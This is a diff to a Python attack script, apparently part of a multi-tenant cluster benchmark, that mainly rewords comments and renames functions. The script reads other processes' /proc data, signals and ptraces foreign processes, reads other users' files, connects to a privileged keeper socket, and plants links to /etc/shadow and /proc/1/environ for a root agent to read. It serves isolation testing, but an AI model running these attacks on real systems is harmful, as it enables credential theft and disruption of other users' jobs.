@@ -1,9 +1,9 @@
-"""What the attacker of `bench/tenants.py` runs on a node: reads, signals and opens what is not its own.
+"""The raid of the attacker of `bench/tenants.py` on a node: read, signal and open what belongs to others.
 
-python3 raid.py HEX SECONDS. HEX is the mark of all canaries in hexadecimal, so that the raid does not find
-itself. `victims.json` beside it names what the attacker could have found out: pids, threads, directories and
-jobs of this cluster, and nothing else of the machine. Needs the standard library only, and prints one JSON
-object per line: each catch, then the number of attempts and of signals that were delivered.
+python3 raid.py HEX SECONDS. HEX is the marker of all canaries in hexadecimal, so that the raid does not find
+itself. `victims.json` names what the attacker could have found out: pids, threads, directories and jobs of
+this cluster, and nothing else of the machine. It needs only the standard library, and prints one JSON object
+per line: each catch, then the number of attempts and of delivered signals.
 """
 
 import contextlib
@@ -20,9 +20,9 @@ from collections import Counter
 from collections.abc import Iterator
 from typing import Any
 
-UNPRIVILEGED = 60_000  # users from here on have nothing but what jobs have
+UNPRIVILEGED = 60_000  # users from this id on are users of jobs
 READ_BYTES = 1 << 16
-FILES_MAX = 500  # of one look into a directory
+FILES_MAX = 500  # per walk of a directory
 CATCHES_MAX = 200
 SIGNALS = (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGCONT)
 TGKILL, PTRACE, PROCESS_VM_READV = {"x86_64": (234, 101, 310)}.get(os.uname().machine, (131, 117, 270))
@@ -41,19 +41,19 @@ caught: dict[str, str] = {}
 
 def main() -> None:
     if min(os.getuid(), os.geteuid()) < UNPRIVILEGED:
-        # As root every signal below would be delivered: that is a breach by itself, and enough of one.
+        # As root every signal below would be delivered; running as root is a breach by itself.
         print(json.dumps({"where": "user", "text": f"runs as user {os.getuid()}"}), flush=True)
         return
-    mark, seconds = bytes.fromhex(sys.argv[1]), float(sys.argv[2])
+    marker, seconds = bytes.fromhex(sys.argv[1]), float(sys.argv[2])
     secret = re.compile(
-        re.escape(mark) + rb"[\w-]+|(?:rota|join|task)_[\w.-]{32,}|PRIVATE KEY-+\s+[\w+/]{40}"
+        re.escape(marker) + rb"[\w-]+|(?:rota|join|task)_[\w.-]{32,}|PRIVATE KEY-+\s+[\w+/]{40}"
     )
     with open("victims.json") as file:
         victims = json.load(file)
     plant(victims, os.environ.get("ROTA_OUTPUT_DIR", "out"))
     until = time.monotonic() + seconds
     while time.monotonic() < until:
-        for attack in (read_processes, signal_all, read_files, open_doors):
+        for attack in (read_processes, signal_all, read_files, open_sockets):
             for where, found in attack(victims):
                 catch(secret, where, found)
     print(json.dumps({"tried": tried, "delivered": delivered}), flush=True)
@@ -79,7 +79,7 @@ def read(path: str) -> bytes:
 
 
 def read_processes(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
-    """Everything that /proc tells of every process of the machine; it is read and never changed."""
+    """Read what /proc shows of every process of the machine; nothing is changed."""
     del victims
     for pid in filter(str.isdecimal, os.listdir("/proc")):
         if is_ours(int(pid)):
@@ -103,7 +103,7 @@ def is_ours(pid: int) -> bool:
 
 def signal_all(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
     for pid, threads in victims["processes"]:
-        if is_ours(pid):  # in a pid namespace it may be the number of one
+        if is_ours(pid):  # in a pid namespace the number may be one of ours
             continue
         for number in SIGNALS:
             with contextlib.suppress(OSError):
@@ -116,7 +116,7 @@ def signal_all(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
                 delivered[f"tgkill {number.name}"] += libc.syscall(TGKILL, pid, thread, int(number)) == 0
         yield from trace(pid)
     with contextlib.suppress(OSError):
-        os.kill(-1, 0)  # whom a signal to all would reach: our own user's processes
+        os.kill(-1, 0)  # a signal to all reaches only processes of our own user
 
 
 def trace(pid: int) -> Iterator[tuple[str, bytes]]:
@@ -156,7 +156,7 @@ def read_files(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
 
 
 def targets(victims: dict[str, Any]) -> Iterator[str]:
-    """What lies in a directory that can be passed through but not listed, by the names that it has."""
+    """Files in directories that can be traversed but not listed, by their known names."""
     for node in victims["nodes"]:
         yield from (f"{node}/{name}" for name in OF_A_NODE)
         for job in victims["jobs"]:
@@ -168,7 +168,7 @@ def targets(victims: dict[str, Any]) -> Iterator[str]:
 
 
 def walk(root: str) -> Iterator[str]:
-    """Regular files below it, of other users and with a name of this cluster, as far as it may be listed."""
+    """Regular files of other users below `root`, in directories of this cluster that can be listed."""
     left = FILES_MAX
     for directory, _, names in os.walk(root):
         if "rota" not in directory:
@@ -184,19 +184,19 @@ def walk(root: str) -> Iterator[str]:
                 return
 
 
-def open_doors(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
-    """The keeper's socket; a keeper that took the connection would be told what to start."""
+def open_sockets(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
+    """Connect to the keeper's socket; a keeper that accepted would take orders."""
     for node in victims["nodes"]:
         tried["connect"] += 1
-        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as door:
-            door.settimeout(1)
-            door.connect(f"{node}/keeper.sock")
+        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
+            connection.settimeout(1)
+            connection.connect(f"{node}/keeper.sock")
             delivered["connect to a keeper"] += 1
-            yield "keeper.sock", door.recv(READ_BYTES)
+            yield "keeper.sock", connection.recv(READ_BYTES)
 
 
 def plant(victims: dict[str, Any], output: str) -> None:
-    """Links among our own outputs, which the agent of root reads when we ask for them."""
+    """Plant links among our own outputs, which the root agent reads on request."""
     paths = ["/etc/shadow", "/proc/1/environ", *targets({**victims, "jobs": victims["jobs"][:20]})]
     for number, path in enumerate(paths):
         for make, name in ((os.symlink, f"link-{number}"), (os.link, f"hard-{number}")):
